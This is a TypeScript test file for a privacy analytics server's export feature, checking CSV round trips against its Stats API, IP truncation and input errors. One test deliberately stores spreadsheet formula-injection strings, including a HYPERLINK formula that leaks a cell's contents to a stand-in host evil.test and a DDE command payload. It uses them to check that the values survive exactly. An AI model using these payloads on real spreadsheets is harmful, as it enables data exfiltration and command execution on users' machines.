/**
 * The export round trip on the real Node server: download the ZIP from the admin API (and
 * write one with the CLI), read every CSV back, and check the numbers summed from them
 * equal what the Stats API answers for the same range. Also: Plausible's file names and
 * columns, the raw events with only what is stored, and bad input named in a 4xx.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runMaintenance } from '../../server/core/maintenance.ts';
import type { Site } from '../../server/core/sites.ts';
import { runCli } from '../../server/node/cli.ts';
import { parseCsv, unzip } from '../helpers/privacy-zip.ts';
import { sendEvent } from '../helpers/server.ts';
import { addSite, insertVisitWithEvents } from '../core/query/store.ts';
import { startStatsServer, type StatsServer } from './stats-server.ts';

const ADMIN = 'privacy-export-admin-token-0123456789abcdef';
const RANGE = ['2024-02-01', '2024-03-12'] as const;
let server: StatsServer;
let site: Site;
let dir: string;

const at = (iso: string) => Date.parse(iso) / 1000;

/** Visits of several kinds over several days, closed days rolled up and today's raw. */
function seed(): void {
  const kinds = [
    { source: 'Google', referrer: 'google.com', channel: 'Organic Search', browser: 'Firefox', browser_version: '133.0', os: 'Windows', os_version: '10', device: 'Desktop', country: 'NO', region: 'NO-03', region_name: 'Oslo', city_name: 'Oslo' },
    { source: 'Newsletter', utm_source: 'newsletter', utm_medium: 'email', utm_campaign: 'spring, "sale"', utm_content: 'top', utm_term: 'shoes', channel: 'Email', browser: 'Safari', browser_version: '17.5', os: 'iOS', os_version: '17.5', device: 'Mobile', country: 'SE', region: 'SE-AB', region_name: 'Stockholm County' },
    { channel: 'Direct', browser: 'Chrome', browser_version: '131.0', os: 'Mac', os_version: '10.15', device: 'Laptop', country: null },
  ];
  const days = ['2024-02-03', '2024-02-10', '2024-02-28', '2024-03-01', '2024-03-11', '2024-03-12'];
  let visitor = 1;
  days.forEach((day, d) => {
    kinds.forEach((kind, k) => {
      for (let n = 0; n <= (d + k) % 3; n++) {
        const start = at(`${day}T${String(8 + n).padStart(2, '0')}:1${k}:00Z`);
        const events = [{ ts: start, path: '/', hostname: 'shop.example' }];
        if ((d + n) % 2 === 0) events.push({ ts: start + 40, path: `/item/${k}`, hostname: k === 1 ? 'blog.shop.example' : 'shop.example' });
        if (k === 0 && n === 0) events.push({ ts: start + 60, name: 'Signup', path: '/item/0', hostname: 'shop.example', props: { plan: 'pro' } } as never);
        const id = insertVisitWithEvents(server.db, site.id, { visitor: visitor++, ...kind }, events);
        server.db.raw.prepare('UPDATE visits SET ip = ? WHERE id = ?').run(k === 1 ? '2a02:2121:1234::' : '84.208.20.0', id);
      }
    });
  });
}

async function stats(body: Record<string, unknown>): Promise<Array<{ dimensions: string[]; metrics: number[] }>> {
  const res = await fetch(`${server.url}/api/v2/query`, {
    method: 'POST',
    headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'application/json' },
    body: JSON.stringify({ site_id: site.domain, date_range: RANGE, ...body }),
  });
  expect(res.status).toBe(200);
  return ((await res.json()) as { results: Array<{ dimensions: string[]; metrics: number[] }> }).results;
}

function exportUrl(query: string): string {
  return `${server.url}/api/v1/sites/${site.domain}/export${query}`;
}

let files: Map<string, string>;
const csv = (table: string) => parseCsv(files.get(`${table}_20240201_20240312.csv`)!);

/** Sums of `metrics` per value of `column` over every day of a file. */
function sumBy(table: string, column: string, metrics: string[]): Map<string, number[]> {
  const sums = new Map<string, number[]>();
  for (const row of csv(table).rows) {
    const key = row[column]!;
    const prev = sums.get(key) ?? metrics.map(() => 0);
    sums.set(key, prev.map((v, i) => v + Number(row[metrics[i]!])));
  }
  return sums;
}

function apiMap(results: Array<{ dimensions: string[]; metrics: number[] }>, none: string): Map<string, number[]> {
  return new Map(results.map((r) => [r.dimensions[0] === none ? '' : r.dimensions[0]!, r.metrics]));
}

beforeAll(async () => {
  server = await startStatsServer(ADMIN, Date.parse('2024-03-12T15:00:00Z'));
  dir = mkdtempSync(join(tmpdir(), 'teller-export-'));
  site = await addSite(server.db, 'shop.example', 'Europe/Oslo');
  // In one transaction: the server's maintenance pass never sees a closed day half written.
  server.db.raw.transaction(() => seed())();
  for (let i = 0; i < 10 && (await runMaintenance(server.db, server.now.ms, { maxDaysPerSite: 100 })).daysRolledUp > 0; i++);
  const res = await fetch(exportUrl(`?from=${RANGE[0]}&to=${RANGE[1]}`), { headers: { authorization: `Bearer ${ADMIN}` } });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('application/zip');
  expect(res.headers.get('content-disposition')).toBe('attachment; filename="teller-shop.example-2024-02-01-2024-03-12.zip"');
  files = unzip(new Uint8Array(await res.arrayBuffer()));
});
afterAll(async () => {
  await server.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('export', () => {
  it("has Plausible's CSV files with Plausible's columns, and the raw events", () => {
    const headers = Object.fromEntries([...files].map(([name, text]) => [name, text.slice(0, text.indexOf('\r\n'))]));
    const s = '_20240201_20240312.csv';
    expect(headers).toEqual({
      [`imported_visitors${s}`]: 'date,visitors,pageviews,bounces,visits,visit_duration',
      [`imported_sources${s}`]: 'date,source,referrer,utm_source,utm_medium,utm_campaign,utm_content,utm_term,pageviews,visitors,visits,visit_duration,bounces',
      [`imported_pages${s}`]: 'date,hostname,page,visits,visitors,pageviews,total_scroll_depth,total_scroll_depth_visits,total_time_on_page,total_time_on_page_visits',
      [`imported_entry_pages${s}`]: 'date,entry_page,visitors,entrances,visit_duration,bounces,pageviews',
      [`imported_exit_pages${s}`]: 'date,exit_page,visitors,visit_duration,exits,bounces,pageviews',
      [`imported_locations${s}`]: 'date,country,region,city,visitors,visits,visit_duration,bounces,pageviews',
      [`imported_devices${s}`]: 'date,device,visitors,visits,visit_duration,bounces,pageviews',
      [`imported_browsers${s}`]: 'date,browser,browser_version,visitors,visits,visit_duration,bounces,pageviews',
      [`imported_operating_systems${s}`]: 'date,operating_system,operating_system_version,visitors,visits,visit_duration,bounces,pageviews',
      [`imported_custom_events${s}`]: 'date,name,link_url,path,visitors,events',
      [`events${s}`]:
        'timestamp,name,hostname,path,site_search,revenue_amount,revenue_currency,props,visit_id,visit_started_at,entry_page,exit_page,referrer,source,channel,search_engine,search_keyword,utm_source,utm_medium,utm_campaign,utm_term,utm_content,country,region,region_name,city_name,browser,browser_version,os,os_version,device,ip',
    });
    const sources = csv('imported_sources').rows;
    expect(sources.some((r) => r.utm_campaign === 'spring, "sale"' && r.utm_medium === 'email' && r.source === 'Newsletter')).toBe(true);
    expect(sources.some((r) => r.source === '' && r.referrer === '')).toBe(true);
    expect(csv('imported_visitors').rows.map((r) => r.date)).toEqual(['2024-02-03', '2024-02-10', '2024-02-28', '2024-03-01', '2024-03-11', '2024-03-12']);
    expect(new Set(csv('imported_pages').rows.map((r) => r.hostname))).toEqual(new Set(['shop.example', 'blog.shop.example']));
  });

  it('round-trips: numbers summed from the CSV files equal the Stats API for the same range', async () => {
    const [total] = await stats({ metrics: ['visitors', 'visits', 'pageviews', 'bounce_rate', 'visit_duration'] });
    const [v, visits, pageviews, bounces, duration] = [
      ...sumBy('imported_visitors', 'date', ['visitors', 'visits', 'pageviews', 'bounces', 'visit_duration']).values(),
    ].reduce((a, b) => a.map((x, i) => x + b[i]!));
    expect([v, visits, pageviews, Math.round((100 * bounces!) / visits!), Math.round(duration! / visits!)]).toEqual(total!.metrics);

    const byDay = await stats({ metrics: ['visitors', 'visits', 'pageviews'], dimensions: ['time:day'] });
    expect(sumBy('imported_visitors', 'date', ['visitors', 'visits', 'pageviews'])).toEqual(apiMap(byDay, ''));

    const visitFiles: Array<[string, string, string, string]> = [
      ['imported_sources', 'source', 'visit:source', 'Direct / None'],
      ['imported_locations', 'country', 'visit:country', '(not set)'],
      ['imported_locations', 'region', 'visit:region', '(not set)'],
      ['imported_devices', 'device', 'visit:device', '(not set)'],
      ['imported_browsers', 'browser', 'visit:browser', '(not set)'],
      ['imported_operating_systems', 'operating_system', 'visit:os', '(not set)'],
    ];
    for (const [table, column, dimension, none] of visitFiles) {
      const api = await stats({ metrics: ['visitors', 'visits', 'pageviews'], dimensions: [dimension] });
      expect(sumBy(table, column, ['visitors', 'visits', 'pageviews']), table).toEqual(apiMap(api, none));
    }
    const entry = await stats({ metrics: ['visitors', 'visits'], dimensions: ['visit:entry_page'] });
    expect(sumBy('imported_entry_pages', 'entry_page', ['visitors', 'entrances'])).toEqual(apiMap(entry, ''));
    const exit = await stats({ metrics: ['visitors', 'visits'], dimensions: ['visit:exit_page'] });
    expect(sumBy('imported_exit_pages', 'exit_page', ['visitors', 'exits'])).toEqual(apiMap(exit, ''));
    // A page's row counts its pageviews alone, as Plausible's export does.
    const pages = await stats({ metrics: ['visitors', 'pageviews'], dimensions: ['event:page'], filters: [['is', 'event:name', ['pageview']]] });
    expect(sumBy('imported_pages', 'page', ['visitors', 'pageviews'])).toEqual(apiMap(pages, ''));
    const names = await stats({ metrics: ['visitors', 'events'], dimensions: ['event:name'] });
    expect(sumBy('imported_custom_events', 'name', ['visitors', 'events'])).toEqual(apiMap(names.filter((r) => r.dimensions[0] !== 'pageview'), ''));
  });

  it('the raw events hold only what is stored: the truncated IP, no visitor hash, the props', () => {
    const events = csv('events');
    const count = server.db.raw.prepare('SELECT count(*) AS n FROM events WHERE site_id = ?').get(site.id) as { n: number };
    expect(events.rows).toHaveLength(count.n);
    expect(events.header).not.toContain('visitor');
    expect(new Set(events.rows.map((r) => r.ip))).toEqual(new Set(['84.208.20.0', '2a02:2121:1234::']));
    expect(events.rows.filter((r) => r.name === 'Signup').every((r) => r.props === '{"plan":"pro"}')).toBe(true);
    expect(events.rows[0]!.timestamp).toMatch(/^2024-02-03T\d\d:\d\d:\d\d/);
  });

  it('writes the same archive with the CLI, and unzip accepts it', async () => {
    const file = join(dir, 'export.zip');
    const out: string[] = [];
    const io = { stdout: (l: string) => out.push(l), stderr: (l: string) => out.push(l), prompt: async () => null, env: { TELLER_DB: server.db.raw.name } };
    expect(await runCli(['export', '--site', site.domain, '--from', RANGE[0], '--to', RANGE[1], file], io)).toBe(0);
    const fromCli = unzip(readFileSync(file));
    expect([...fromCli.keys()]).toEqual([...files.keys()]);
    for (const [name, text] of files) if (!name.startsWith('events')) expect(fromCli.get(name), name).toBe(text);
    if (existsSync('/usr/bin/unzip')) expect(execFileSync('/usr/bin/unzip', ['-t', file]).toString()).toContain('No errors detected');
    expect(await runCli(['export', '--site', site.domain, '--from', '2024-13-01', join(dir, 'bad.zip')], io)).toBe(2);
    expect(existsSync(join(dir, 'bad.zip'))).toBe(false);
  });

  it('keeps formula-like visitor text exact, as an import needs it, through collection and export', async () => {
    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"x")';
    const tags = { utm_source: '@SUM(1+1)', utm_medium: '+cmd', utm_campaign: formula, utm_content: "=cmd|' /C calc'!A0", utm_term: '-2+3' };
    await addSite(server.db, 'formula.example', 'Europe/Oslo');
    const page = `https://formula.example/landing?${new URLSearchParams(tags)}`;
    expect((await sendEvent(server, { n: 'pageview', u: page, d: 'formula.example' })).status).toBe(202);
    expect((await sendEvent(server, { n: formula, u: page, d: 'formula.example', p: { plan: '=1+1' } })).status).toBe(202);

    const res = await fetch(`${server.url}/api/v1/sites/formula.example/export?from=2024-03-12&to=2024-03-12`, { headers: { authorization: `Bearer ${ADMIN}` } });
    expect(res.status).toBe(200);
    const exported = unzip(new Uint8Array(await res.arrayBuffer()));
    const file = (table: string) => exported.get(`${table}_20240312_20240312.csv`)!;
    const event = parseCsv(file('events')).rows.find((r) => r.name === formula)!;
    expect(event).toMatchObject({ ...tags, search_keyword: '-2+3', props: '{"plan":"=1+1"}' });
    expect(parseCsv(file('imported_custom_events')).rows.map((r) => r.name)).toEqual([formula]);
    expect(parseCsv(file('imported_sources')).rows).toEqual([expect.objectContaining(tags)]);
    // Quoted only as RFC 4180 needs, with no ' added: the cell is the value.
    expect(file('imported_custom_events')).toContain(`\r\n2024-03-12,"=HYPERLINK(""http://evil.test/?x=""&A1,""x"")",,,1,1\r\n`);
  });

  it('answers bad input with a 4xx naming it', async () => {
    const get = (url: string) => fetch(url, { headers: { authorization: `Bearer ${ADMIN}` } });
    const bad = [
      [exportUrl('?from=2024-02-30'), 400, 'from'],
      [exportUrl('?to=yesterday'), 400, 'to'],
      [exportUrl('?from=2024-03-02&to=2024-03-01'), 400, 'after'],
      [`${server.url}/api/v1/sites/nope.example/export`, 404, 'unknown site nope.example'],
      [`${server.url}/api/v1/sites/shop.example/privacy-text?lang=de`, 400, 'lang'],
      [`${server.url}/api/v1/sites/shop.example/privacy-text?format=pdf`, 400, 'format'],
    ] as const;
    for (const [url, status, words] of bad) {
      const res = await get(url);
      expect(res.status, url).toBe(status);
      expect(((await res.json()) as { error: string }).error).toContain(words);
    }
    expect((await fetch(exportUrl(''))).status).toBe(401);
  });
});
